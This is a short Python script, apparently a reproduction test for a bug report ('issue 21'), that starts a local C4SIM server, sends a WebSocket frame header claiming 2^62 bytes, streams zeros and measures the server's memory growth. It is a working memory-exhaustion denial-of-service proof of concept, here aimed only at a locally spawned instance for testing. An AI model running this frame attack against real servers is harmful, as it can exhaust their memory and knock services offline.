"""The hostile client of issue 21: a WebSocket handshake on /ws, one frame header
announcing 2^62 bytes, then MIB x 1 MiB of zeros; prints the server's resident
memory before and after. Usage: hostile_frame.py C4SIM_BINARY [MIB]"""
import socket, struct, subprocess, sys, time, re, os
binary = sys.argv[1]; mib = int(sys.argv[2]) if len(sys.argv) > 2 else 256
p = subprocess.Popen([binary, "web", "--player", "leftmost", "--bind", "127.0.0.1:0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
line = p.stdout.readline(); port = int(re.search(r":(\d+)/", line).group(1))
def rss(): return int([l for l in open(f"/proc/{p.pid}/status") if l.startswith("VmRSS")][0].split()[1])
time.sleep(0.3); r0 = rss()
s = socket.create_connection(("127.0.0.1", port))
s.sendall(f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
time.sleep(0.2); s.recv(65536)
s.sendall(struct.pack(">BBQ", 0x81, 0xFF, 2**62) + b"\x01\x02\x03\x04")
sent = 0; s.settimeout(5)
try:
    for i in range(mib):
        s.sendall(b"\x00" * (1 << 20)); sent += 1
except Exception as e:
    print("send stopped:", type(e).__name__)
time.sleep(0.5)
print(f"{binary}: rss before {r0} KiB, after {sent} MiB sent: {rss()} KiB (connection {'open' if p.poll() is None else '?'})")
s.close(); p.kill()
